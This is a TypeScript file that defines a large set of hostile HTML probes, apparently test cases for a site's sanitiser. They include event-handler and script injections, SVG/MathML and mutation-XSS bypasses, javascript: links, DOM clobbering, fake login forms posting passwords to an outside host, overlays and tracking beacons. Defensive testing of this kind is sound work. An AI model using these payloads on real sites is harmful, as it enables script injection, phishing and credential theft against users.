/** What a probe tries. */
export type ProbeKind =
  | 'handler'
  | 'script'
  | 'svg'
  | 'mathml'
  | 'namespace'
  | 'address'
  | 'frame'
  | 'document'
  | 'clobber'
  | 'form'
  | 'overlay'
  | 'beacon';

/** One piece of hostile markup. */
export interface Probe {
  readonly id: string;
  readonly kind: ProbeKind;
  /**
   * @param run code that reports its execution; it has no quotes, so it fits everywhere
   * @param host a host of its own, so that a request shows which probe sent it
   */
  readonly markup: (run: string, host: string) => string;
}

type Markup = Probe['markup'];

const kindOf = (kind: ProbeKind, markups: Readonly<Record<string, Markup>>): Probe[] =>
  Object.entries(markups).map(([name, markup]) => ({ id: `${kind}/${name}`, kind, markup }));

const DOT = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';
const img = (run: string) => `<img src=x onerror=${run}>`;

const handlers = kindOf('handler', {
  'picture that fails': img,
  'mixed case': (run) => `<ImG sRc=x oNeRrOr=${run}>`,
  'slashes for blanks': (run) => `<img/src="x"/onerror="${run}">`,
  'line breaks for blanks': (run) => `<img\nsrc=x\nonerror\n=\n${run}\n>`,
  'form feed before the sign': (run) => `<img src=x onerror\f=${run}>`,
  'named twice': (run) => `<img src=x onerror=${run} onerror=0>`,
  'code in entities': (run) => `<img src=x onerror="${run.replaceAll('_', '&#95;')}">`,
  'code in entities without ends': (run) => `<img src=x onerror="${run.replaceAll('_', '&#x05f')}">`,
  'picture that loads': (run) => `<img src="${DOT}" onload=${run}>`,
  pressed: (run) => `<div onclick=${run}>Press</div>`,
  'pointed at': (run) => `<p onmouseover=${run} onpointerenter=${run}>Point</p>`,
  'link with an allowed address': (run) => `<a href="/event" onclick=${run}>Events</a>`,
  'focus by itself': (run) => `<b tabindex=0 autofocus onfocus=${run}>Focus</b>`,
  'details that open': (run) => `<details open ontoggle=${run}><summary>More</summary>Text</details>`,
  'moving text': (run) => `<marquee loop=1 width=0 onstart=${run} onfinish=${run}>Text</marquee>`,
  'video source': (run) => `<video><source src=x onerror=${run}></video>`,
  audio: (run) => `<audio src=x onerror=${run}></audio>`,
  'empty frame': (run) => `<iframe onload=${run}></iframe>`,
  object: (run) => `<object data=/no-such-file onerror=${run}></object>`,
  'style sheet': (run) => `<style onload=${run}>b{}</style>`,
  'linked style sheet': (run) => `<link rel=stylesheet href=/no-such.css onerror=${run}>`,
  'script that fails': (run) => `<script src=/no-such.js onerror=${run}></script>`,
  animation: (run) =>
    `<style>@keyframes probe{to{color:red}}</style><b style="animation:probe 1ms" onanimationend=${run}>Text</b>`,
  edited: (run) => `<div contenteditable oninput=${run} onbeforeinput=${run}>Text</div>`,
  popover: (run) =>
    `<button popovertarget=probe-popover>Open</button><i popover id=probe-popover onbeforetoggle=${run}>Text</i>`,
  'element of its own': (run) => `<x-probe onclick=${run} class=x>Text</x-probe>`,
  'allowed element with much else': (run) =>
    `<table onclick=${run} style="x" id=a><tr onclick=${run}><td onclick=${run} background=/x>Text</td></tr></table>`,
});

const scripts = kindOf('script', {
  plain: (run) => `<script>${run}</script>`,
  'deep inside': (run) => `<div><p>Text<span><script>${run}</script></span></p></div>`,
  module: (run) => `<script type=module>${run}</script>`,
  'from a data address': (run) => `<script src="data:text/javascript,${run}"></script>`,
  'from elsewhere': (_run, host) => `<script src="https://${host}/x.js"></script>`,
  'one inside the other': (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  'never closed': (run) => `Text<script>${run}`,
  'in a template': (run) => `<template><script>${run}</script>${img(run)}</template>`,
  'in a shadow': (run) => `<div><template shadowrootmode=open>${img(run)}</template></div>`,
  'in what scripts hide': (run) => `<noscript><p title="</noscript>${img(run)}">`,
  'other language': (run) => `<script language=vbscript type="text/vbscript">${run}</script>`,
});

const drawings = kindOf('svg', {
  load: (run) => `<svg onload=${run}></svg>`,
  script: (run) => `<svg><script>${run}</script></svg>`,
  'script by address': (run) => `<svg><script href="data:text/javascript,${run}" /></svg>`,
  'script with the old address': (run) => `<svg><script xlink:href="data:,${run}"></script></svg>`,
  'animation begins': (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s /></svg>`,
  'set begins': (run) => `<svg><set onbegin=${run} attributeName=x dur=1s /></svg>`,
  link: (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>Text</text></a></svg>`,
  'link made by animation': (run) =>
    `<svg><a><animate attributeName=href values="javascript:${run}" /><text y=20>Text</text></a></svg>`,
  image: (run) => `<svg><image href=/no-such-picture onerror=${run} /></svg>`,
  'foreign object': (run) => `<svg><foreignObject>${img(run)}</foreignObject></svg>`,
  title: (run) => `<svg><title>${img(run)}</title></svg>`,
  'desc with a frame': (run) => `<svg><desc><iframe src="javascript:${run}"></iframe></desc></svg>`,
  'style that is no style': (run) => `<svg><style>${img(run)}</style></svg>`,
  'use of another file': (_run, host) => `<svg><use href="https://${host}/x.svg#a" /></svg>`,
  'filter from elsewhere': (_run, host) => `<svg><feImage href="https://${host}/x.svg" /></svg>`,
});

const formulas = kindOf('mathml', {
  annotation: (run) => `<math><annotation-xml encoding="text/html">${img(run)}</annotation-xml></math>`,
  text: (run) => `<math><mtext>${img(run)}</mtext></math>`,
  action: (run) =>
    `<math><maction actiontype=toggle xlink:href="javascript:${run}"><mi>x</mi></maction></math>`,
  link: (run) => `<math href="javascript:${run}"><mi href="javascript:${run}">x</mi></math>`,
  handler: (run) => `<math><mi onclick=${run}>x</mi></math>`,
});

/** Markup that means one thing when it is parsed first and another when its serialised text is parsed again. */
const namespaces = kindOf('namespace', {
  'glyph in a table': (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'form in a formula': (run) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${img(run)}">`,
  'paragraph leaves a drawing': (run) => `<svg></p><style><a id="</style>${img(run)}">`,
  'break leaves a formula': (run) => `<math></br><p><style><!--</style>${img(run)}--></style>`,
  'cell in a drawing': (run) => `<table><td><svg><desc><td>${img(run)}</desc></svg></td></table>`,
  'CDATA in a drawing': (run) => `<svg><![CDATA[</svg>${img(run)}]]></svg>`,
  'CDATA outside': (run) => `<![CDATA[>${img(run)}]]>`,
  'comment closed at once': (run) => `<!-->${img(run)}-->`,
  'comment closed by a sign': (run) => `<!-- --!>${img(run)} -->`,
  'processing instruction': (run) => `<?xml version="1.0">${img(run)}?>`,
  'closing tag that is none': (run) => `</ p title=">${img(run)}">`,
  'raw text element': (run) => `<xmp><p title="</xmp>${img(run)}"></xmp>`,
  'text area': (run) => `<textarea><p title="</textarea>${img(run)}"></textarea>`,
  title: (run) => `<title><p title="</title>${img(run)}"></title>`,
  'no embed': (run) => `<noembed><p title="</noembed>${img(run)}"></noembed>`,
  style: (run) => `<style><p title="</style>${img(run)}"></style>`,
  select: (run) => `<select><option><style></option></select>${img(run)}</style></select>`,
  'very deep': (run) => `${'<div>'.repeat(600)}${img(run)}${'</div>'.repeat(600)}`,
  'nested forms': (run) => `<form id=a><div></form><form id=b>${img(run)}</form></div>`,
  'markup in an attribute': (run) => `<p title='${img(run)}'>Text</p>`,
  'markup in an alternative': (run) => `<img src="https://nowhere.example/x" alt='${img(run)}'>`,
  'escaped once': (run) => `&lt;img src=x onerror=${run}&gt;`,
  'escaped twice': (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
});

const addresses = kindOf('address', {
  plain: (run) => `<a href="javascript:${run}">Press</a>`,
  'mixed case': (run) => `<a href="JaVaScRiPt:${run}">Press</a>`,
  'line break inside': (run) => `<a href="java&#10;script:${run}">Press</a>`,
  'tabulator and colon as words': (run) => `<a href=" &#9;javascript&colon;${run}">Press</a>`,
  'control character before': (run) => `<a href="&#1;javascript:${run}">Press</a>`,
  'looks like a web address': (run) => `<a href="javascript://example.org/%0a${run}">Press</a>`,
  'page in a data address': (run) => `<a href="data:text/html,<script>${run}</script>">Press</a>`,
  'other schemes': (_run, host) =>
    `<a href="vbscript:x">a</a><a href="blob:https://${host}/1">b</a><a href="file:///x">c</a>` +
    `<a href="intent://${host}#Intent;end">d</a><a href="view-source:https://${host}">e</a>`,
  'user name before the host': (_run, host) => `<a href="https://example.org@${host}/">Press</a>`,
  backslashes: (_run, host) => `<a href="\\\\${host}\\x">Press</a><a href="/\\${host}">Press</a>`,
  'new tab that keeps its opener': (_run, host) =>
    `<a href="https://${host}/" target=_blank rel=opener>Press</a>`,
  'tells on being pressed': (_run, host) => `<a href="/event" ping="https://${host}/" download>Press</a>`,
  'other windows': (_run, host) =>
    `<a href="https://${host}/" target=_top>a</a><a href="https://${host}/" target=probe>b</a>`,
  'picture map': (run) =>
    `<map name=probe-map><area shape=default href="javascript:${run}"></map><img src=/icons/favicon.svg usemap=#probe-map>`,
  'address on a wrong element': (run) =>
    `<td href="javascript:${run}">a</td><p src="javascript:${run}">b</p>`,
});

const frames = kindOf('frame', {
  'script address': (run) => `<iframe src="javascript:${run}"></iframe>`,
  'own document': (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'data address': (run) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  'foreign page': (_run, host) => `<iframe src="https://${host}/" width=2000 height=2000></iframe>`,
  object: (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  embedded: (_run, host) => `<embed src="https://${host}/x" type="text/html">`,
  'old frames': (_run, host) => `<frameset><frame src="https://${host}/"></frameset>`,
});

const documents = kindOf('document', {
  base: (_run, host) => `<base href="https://${host}/">`,
  'led away': (_run, host) => `<meta http-equiv=refresh content="0;url=https://${host}/">`,
  'policy of its own': () => `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  referrer: () => '<meta name=referrer content=unsafe-url>',
  'style sheet': (_run, host) => `<link rel=stylesheet href="https://${host}/x.css">`,
  'asked ahead': (_run, host) =>
    `<link rel=prefetch href="https://${host}/"><link rel=preconnect href="https://${host}">`,
  'body and head': (run) => `</div></main></body><head><title>Taken</title></head><body onload=${run}>Text`,
});

const clobbers = kindOf('clobber', {
  'root of the application': () => '<div id=root></div><div id=main></div>',
  'data of the page': () => '<p id=page-data>{"queries":[]}</p><p id=page-scripts>[]</p>',
  'methods of the document': () =>
    '<img name=getElementById><img name=querySelector><form name=createElement></form><img name=cookie>',
  'names of the window': () => '<a id=probeGlobal></a><a id=probeGlobal name=href href="/x"></a>',
  'window by frame': () => '<iframe name=probeGlobal></iframe>',
  'trusted types': () => '<a id=trustedTypes></a><form name=trustedTypes><input name=createPolicy></form>',
  'the cleaner itself': (run) =>
    `<form onclick=${run}><input name=attributes><input name=parentNode><input name=nodeName></form>`,
  'the cleaner itself, deeper': (run) =>
    `<form><input name=childNodes><input name=removeAttribute><p onclick=${run}>Press</p></form>`,
});

const forms = kindOf('form', {
  'sign in': (_run, host) =>
    `<form action="https://${host}/" method=post><label>Name <input name=user></label>` +
    '<label>Password <input type=password name=password></label><button>Log in</button></form>',
  'script address': (run) => `<form action="javascript:${run}"><button>Go</button></form>`,
  'script address on the button': (run) => `<form><button formaction="javascript:${run}">Go</button></form>`,
  'controls alone': () =>
    '<input type=file><select><option>a</select><textarea>b</textarea><button>c</button><output>d</output><meter></meter>',
  'button for a form of ours': (_run, host) =>
    `<button form=contact formaction="https://${host}/">Send</button>`,
  'picture as a button': (_run, host) => `<input type=image src="https://${host}/x.gif">`,
  'editable text': () => '<p contenteditable spellcheck=true>Type your password</p>',
});

const overlays = kindOf('overlay', {
  'over everything': () =>
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Please log in again</div>',
  'by a class of ours': () => '<div class="modal drawer visually-hidden on-slip" data-open=true>Text</div>',
  'style sheet': () => '<style>body{display:none!important}</style>',
  dialog: () => '<dialog open style="position:fixed;inset:0">Please log in again</dialog>',
  popover: () => '<div popover=manual id=probe-over>Text</div><button popovertarget=probe-over>a</button>',
  'old attributes': () =>
    '<p align=right><font size=7 color=red face=x>a</font></p><table border=9 bgcolor=red><tr><td bgcolor=red>b',
  'picture over the window': () =>
    '<img src=/icons/favicon.svg style="position:fixed;inset:0" hspace=9999 border=99>',
  'wider than the window': () =>
    '<hr width=9999><img src=/icons/favicon.svg width=9999 height=9999><table width=9999><tr><td width=9999 height=9999>b</table>',
  'deep lists': () => `${'<ul><li>'.repeat(100)}Text`,
  'deep quotes': () => `${'<blockquote><figure><dl><dd>'.repeat(60)}Text`,
  'one endless word': () => `<b>${'x'.repeat(5_000)}</b><pre>${'y '.repeat(2_000)}</pre>`,
  'roles that lie': () =>
    '<p role=alert aria-label="Log in" aria-live=assertive tabindex=1 accesskey=s>Text</p>',
});

const beacons = kindOf('beacon', {
  picture: (_run, host) => `<img src="https://${host}/x.gif" alt="">`,
  'picture without a scheme': (_run, host) => `<img src="//${host}/x.gif"><img src="///${host}/x.gif">`,
  'picture with half a scheme': (_run, host) =>
    `<img src="https:${host}/x.gif"><img src="http:/${host}/x.gif">`,
  'picture with backslashes': (_run, host) => `<img src="/\\${host}/x.gif"><img src="\\\\${host}/x.gif">`,
  'picture with a hidden sign': (_run, host) =>
    `<img src="/&#9;/${host}/x.gif"><img src="&#10;//${host}/x.gif">`,
  'picture behind a user name': (_run, host) => `<img src="http://127.0.0.1@${host}/x.gif">`,
  'one of several pictures': (_run, host) =>
    `<img src="/icons/favicon.svg" srcset="https://${host}/x.gif 1x">`,
  'picture by screen': (_run, host) =>
    `<picture><source srcset="https://${host}/x.gif"><img src="/icons/favicon.svg"></picture>`,
  background: (_run, host) => `<p style="background:url(https://${host}/x.gif)">Text</p>`,
  'background of a table': (_run, host) =>
    `<table background="https://${host}/x.gif"><tr><td background="https://${host}/y.gif">Text</td></tr></table>`,
  'sheet that imports': (_run, host) => `<style>@import "https://${host}/x.css";</style>`,
  font: (_run, host) =>
    `<style>@font-face{font-family:p;src:url(https://${host}/f)}</style><b style="font-family:p">Text</b>`,
  'film that starts': (_run, host) => `<video autoplay muted src="https://${host}/x.mp4"></video>`,
  'picture of a film': (_run, host) => `<video poster="https://${host}/x.gif"></video>`,
  'sound that starts': (_run, host) => `<audio autoplay src="https://${host}/x.mp3"></audio>`,
  'drawn picture': (_run, host) => `<svg><image href="https://${host}/x.gif" width=1 height=1 /></svg>`,
});

/** Our own hostile markup, apart from the public collections. Every entry tries something the site must prevent. */
export const PROBES: readonly Probe[] = [
  ...handlers,
  ...scripts,
  ...drawings,
  ...formulas,
  ...namespaces,
  ...addresses,
  ...frames,
  ...documents,
  ...clobbers,
  ...forms,
  ...overlays,
  ...beacons,
];
